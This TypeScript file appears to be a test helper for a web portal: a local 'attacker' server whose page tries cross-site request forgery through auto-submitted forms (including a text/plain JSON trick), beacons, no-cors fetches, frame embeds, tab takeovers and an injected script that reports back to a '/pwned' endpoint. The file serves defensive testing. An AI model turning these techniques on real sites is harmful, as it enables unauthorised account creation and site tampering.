import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'

/** What a foreign page would like to do: a call of the demo server and its body. */
const CALLS: [path: string, body: object][] = [
  ['/api/__demo__/member', { username: 'demo888', balance: '1', password: 'stolen01' }],
  ['/api/__demo__/site', { title: '被改的站名', site_state: 0 }],
  ['/api/__demo__/delay', { ms: 30_000 }],
  ['/api/__demo__/clock', { offsetMs: 86_400_000 }],
  [
    '/api/register',
    { name: 'thief01', password: 'abcd1234', realname: '贼', paypassword: '123456', code: '3KD7' },
  ],
  ['/api/__demo__/reset', {}],
]
/** The encodings of a form; the first can spell JSON. */
const ENCODINGS = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']

type Form = { path: string; body: object; encoding: string }

/**
 * A page of another origin that tries to steer a portal, on a port of its own: its frames, forms, scripts, beacons and requests at
 * `/`, one form or address that takes over the whole tab at `/top?0` and so on. `pwned` lists the scripts of its own that ran.
 */
export class Attacker {
  readonly pwned: string[] = []
  private readonly target: string
  private readonly server = createServer(({ url = '/' }, response) => {
    const { pathname, search } = new URL(url, 'http://localhost')
    response.setHeader('Access-Control-Allow-Origin', '*')
    response.setHeader('Cache-Control', 'no-store')
    if (pathname === '/pwned') this.pwned.push(search)
    response.writeHead(pathname === '/pwned' ? 204 : 200, { 'Content-Type': 'text/html; charset=utf-8' })
    response.end(
      pathname === '/top'
        ? this.page(takeOver, this.tops[Number(search.slice(1))])
        : this.page(tryAll, this.forms),
    )
  })

  /** @param target The portal's origin. */
  constructor(target: string) {
    this.target = target
  }

  /** Its address as another site's (`localhost`) or as the same site's (`127.0.0.1`, another port). */
  url = (host: 'localhost' | '127.0.0.1'): string =>
    `http://${host}:${(this.server.address() as AddressInfo).port}`

  start = (): Promise<void> => new Promise((done) => this.server.listen(0, '127.0.0.1', done))
  stop(): void {
    this.server.closeAllConnections()
    this.server.close()
  }

  /** Every call as text, one in every encoding; one call makes the site's settings a page with a script. */
  private get forms(): Form[] {
    const script = `<script>new Image().src = '${this.url('127.0.0.1')}/pwned?' + origin</script>`
    const page: [string, object] = ['/api/__demo__/next', { call: '/api/app', times: 99, text: script }]
    return [page, ...CALLS]
      .flatMap(([path, body]) => ENCODINGS.map((encoding) => ({ path, body, encoding })))
      .filter(({ path, encoding }) => encoding === ENCODINGS[0] || path === CALLS[0]![0])
  }

  /** What takes over the tab, in turn: calls as text, then the page that would hold the script. */
  private get tops(): (Form | string)[] {
    const asText = this.forms.filter(({ encoding }) => encoding === ENCODINGS[0])
    return [
      ...asText,
      { path: '/api/app', body: {}, encoding: ENCODINGS[0]! },
      '/api/app',
      '/api/getVisitUrl',
    ]
  }

  /** The addresses that take over a tab. */
  topPages = (host: 'localhost' | '127.0.0.1'): string[] =>
    this.tops.map((_, index) => `${this.url(host)}/top?${index}`)

  private page(run: (target: string, given: never) => void, given: unknown): string {
    return `<!doctype html><title>attacker</title><body><button>open</button><script>${submitForm.toString()}
      (${run.toString()})(${JSON.stringify(this.target)}, ${JSON.stringify(given).replaceAll('<', '\\u003c')})</script>`
  }
}

/** Runs in the attacker's page. Sends a form whose only field spells the body. */
function submitForm(target: string, { path, body, encoding }: Form, frame: string): void {
  const form = document.createElement('form')
  Object.assign(form, { method: 'post', enctype: encoding, action: target + path, target: frame })
  const field = document.createElement('input')
  const text = JSON.stringify({ ...body, _: '' })
  if (encoding === 'text/plain') [field.name, field.value] = [text.slice(0, -2), text.slice(-2)]
  else [field.name, field.value] = ['json', text]
  form.append(field)
  for (const [name, value] of Object.entries(body)) {
    const each = document.createElement('input')
    ;[each.name, each.value] = [name, String(value)]
    if (encoding !== 'text/plain') form.append(each)
  }
  document.body.append(form)
  form.submit()
}

/** Runs in the attacker's page. */
function takeOver(target: string, given: Form | string): void {
  addEventListener('load', () => {
    if (typeof given === 'string') location.href = target + given
    else submitForm(target, given, '_self')
  })
}

/** Runs in the attacker's page: everything that needs no click. The title says when it is done. */
function tryAll(target: string, forms: Form[]): void {
  const add = (tag: string, more: object) =>
    document.body.append(Object.assign(document.createElement(tag), more))
  addEventListener('load', () => {
    for (const [index, form] of forms.entries()) {
      add('iframe', { name: `frame${index}` })
      submitForm(target, form, `frame${index}`)
    }
    const reads = ['/api/app', '/api/getVisitUrl']
    for (const read of reads) {
      const src = target + read
      for (const tag of ['iframe', 'embed', 'script', 'img']) add(tag, { src })
      add('object', { data: src })
      for (const rel of ['prefetch', 'stylesheet', 'preload', 'modulepreload'])
        add('link', { rel, href: src, ...(rel === 'preload' && { as: 'fetch' }) })
    }
    for (const path of [
      '/',
      '/demo-console.html',
      '/demo-game.html?ticket=x',
      '/demo-service.html',
      '/demo-agent.html',
    ])
      add('iframe', { src: target + path, className: 'page' })
    const texts = forms.filter(({ encoding }) => encoding === 'text/plain')
    const sent = texts.flatMap(({ path, body }) => {
      const text = JSON.stringify(body)
      const json = {
        method: 'POST',
        body: text,
        headers: { 'Content-Type': 'application/json', 'X-Demo-Control': '1' },
      }
      navigator.sendBeacon(target + path, text)
      navigator.sendBeacon(target + path, new Blob([text], { type: 'application/json' }))
      return [
        { mode: 'no-cors' as const, method: 'POST', body: text },
        { mode: 'no-cors' as const, method: 'POST', body: new Blob([text], { type: 'application/json' }) },
        { ...json, credentials: 'include' as const },
        { ...json, mode: 'no-cors' as const },
      ].map((init) => fetch(target + path, init).catch(() => null))
    })
    const told = () => {
      for (const frame of document.querySelectorAll<HTMLIFrameElement>('iframe'))
        for (const type of ['SKIP_WAITING', 'FORGET_PICTURES', 'alive'])
          frame.contentWindow?.postMessage({ type }, '*')
      for (const name of ['demo:desk', 'portal:session']) new BroadcastChannel(name).postMessage('alive')
      document.title = 'done'
    }
    // What was begun in frames has no end that a page of another origin could see.
    void Promise.all(sent).then(() => setTimeout(told, 1500))
  })
}
